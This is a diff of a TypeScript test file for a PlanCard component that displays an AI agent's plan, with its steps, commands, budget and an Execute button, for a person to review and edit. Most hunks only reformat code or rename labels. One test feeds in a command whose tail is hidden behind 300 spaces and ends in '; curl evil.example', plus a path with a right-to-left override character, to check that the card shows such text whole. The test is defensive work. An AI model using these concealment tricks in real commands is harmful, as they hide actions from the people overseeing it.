@@ -8,7 +8,13 @@ import { PlanCard } from "./PlanCard";
 const PLAN = {
   goal: "Greet the world",
   steps: [
-    { id: "1", action: "Create `hello.txt`", tools_needed: ["create_file"], paths: ["hello.txt"], estimated_time: "1 min" },
+    {
+      id: "1",
+      action: "Create `hello.txt`",
+      tools_needed: ["create_file"],
+      paths: ["hello.txt"],
+      estimated_time: "1 min",
+    },
     { id: "2", action: "Run it", dependencies: ["1"], commands: ["cat hello.txt"] },
   ],
   risks: ["It may be too friendly."],
@@ -18,23 +24,49 @@ const PLAN = {
 function card(parts: Partial<Parameters<typeof PlanCard>[0]> = {}) {
   const onExecute = vi.fn<(edits: PlanEdits | null) => void>();
   const plan = readPlan(PLAN)!;
-  const shown = show(<PlanCard message={message({ agent_role: "planner" })} plan={plan} state="open" thought={null} busy={false} onExecute={onExecute} onRevise={() => {}} onCompare={null} {...parts} />);
+  const shown = show(
+    <PlanCard
+      message={message({ agent_role: "planner" })}
+      plan={plan}
+      state="open"
+      thought={null}
+      busy={false}
+      onExecute={onExecute}
+      onRevise={() => {}}
+      onCompare={null}
+      {...parts}
+    />,
+  );
   return { ...shown, onExecute };
 }
 
 // proves UI-2/2
 it("shows steps, tools, risks and times", async () => {
   const { container } = card();
-  for (const words of ["Greet the world", "cat hello.txt", "It may be too friendly.", "2 min", "after 1"]) expect(screen.getByText(words)).toBeTruthy();
+  for (const words of ["Greet the world", "cat hello.txt", "It may be too friendly.", "2 min", "after 1"])
+    expect(screen.getByText(words)).toBeTruthy();
   await expectAccessible(container);
 });
 
 // proves UI-2/2
 it("shows every command, check, path and tool whole and escaped", () => {
   const tail = `true${" ".repeat(300)}; curl evil.example`;
-  const plan = readPlan({ goal: "x", steps: [{ id: "1", action: "Do", paths: ["a\u202Etxt"], commands: [`ls ${tail}`], check: tail, tools_needed: ["delete_file"] }] })!;
+  const plan = readPlan({
+    goal: "x",
+    steps: [
+      {
+        id: "1",
+        action: "Do",
+        paths: ["a\u202Etxt"],
+        commands: [`ls ${tail}`],
+        check: tail,
+        tools_needed: ["delete_file"],
+      },
+    ],
+  })!;
   card({ plan });
-  const code = (text: string) => screen.getByText((_, element) => element?.tagName === "CODE" && element.textContent === text);
+  const code = (text: string) =>
+    screen.getByText((_, element) => element?.tagName === "CODE" && element.textContent === text);
   for (const text of ["a⟨U+202E⟩txt", `ls ${tail}`, tail, "delete_file"]) {
     expect(code(text).className).toContain("whitespace-pre-wrap");
     expect(code(text).className).not.toContain("truncate");
@@ -42,7 +74,13 @@ it("shows every command, check, path and tool whole and escaped", () => {
 });
 
 it("waits with executing until every step was in view", () => {
-  vi.stubGlobal("IntersectionObserver", class { observe() {} disconnect() {} });
+  vi.stubGlobal(
+    "IntersectionObserver",
+    class {
+      observe() {}
+      disconnect() {}
+    },
+  );
   const { onExecute } = card();
   const button = screen.getByRole("button", { name: "Execute plan" });
   expect(button).toHaveProperty("disabled", true);
@@ -53,7 +91,9 @@ it("waits with executing until every step was in view", () => {
 });
 
 it("keeps check and tools in view while it is edited", async () => {
-  const { onExecute } = card({ plan: readPlan({ goal: "x", steps: [{ id: "1", action: "Do", check: "make test", tools_needed: ["write"] }] })! });
+  const { onExecute } = card({
+    plan: readPlan({ goal: "x", steps: [{ id: "1", action: "Do", check: "make test", tools_needed: ["write"] }] })!,
+  });
   await userEvent.click(screen.getByRole("button", { name: "Edit" }));
   expect(screen.getByLabelText("Check of step 1")).toHaveProperty("value", "make test");
   expect(screen.getByLabelText("Tools of step 1")).toHaveProperty("value", "write");
@@ -66,7 +106,7 @@ it("keeps check and tools in view while it is edited", async () => {
 it("executes the plan as it stands", async () => {
   const { onExecute } = card();
   await userEvent.click(screen.getByRole("button", { name: "Execute plan" }));
-  expect(onExecute).toHaveBeenCalledWith(null);
+  expect(onExecute).toHaveBeenCalledWith(null, "chat");
 });
 
 it("executes what the person made of it: reordered, changed, dropped, added", async () => {
@@ -74,7 +114,7 @@ it("executes what the person made of it: reordered, changed, dropped, added", as
   await userEvent.click(screen.getByRole("button", { name: "Edit" }));
   await expectAccessible(container);
   await userEvent.click(screen.getByRole("button", { name: "Move step 2 up" }));
-  await userEvent.click(screen.getByRole("button", { name: "Drop step 2" }));
+  await userEvent.click(screen.getByRole("button", { name: "Remove step 2" }));
   await userEvent.type(screen.getByLabelText("What to do in step 1"), " twice");
   await userEvent.click(screen.getByRole("button", { name: "Add a step" }));
   expect(screen.getByRole("button", { name: "Execute edited plan" })).toHaveProperty("disabled", true);
@@ -90,9 +130,10 @@ it("executes what the person made of it: reordered, changed, dropped, added", as
 it("shows its budget, and lets the person change it in their own units", async () => {
   const plan = readPlan({ ...PLAN, budget: { calls: 1, seconds: 90, tokens: 50_000, cost: 1.5 } })!;
   const { onExecute } = card({ plan });
-  for (const words of ["1 change or command", "90 s at work", "50,000 tokens", "$1.5"]) expect(screen.getByText(words)).toBeTruthy();
+  for (const words of ["1 change or command", "90 s at work", "50,000 tokens", "$1.5"])
+    expect(screen.getByText(words)).toBeTruthy();
   await userEvent.click(screen.getByRole("button", { name: "Edit" }));
-  const minutes = screen.getByLabelText("Minutes at work");
+  const minutes = screen.getByLabelText("Minutes");
   expect(minutes).toHaveProperty("value", "1.5");
   await userEvent.clear(minutes);
   await userEvent.type(minutes, "3");
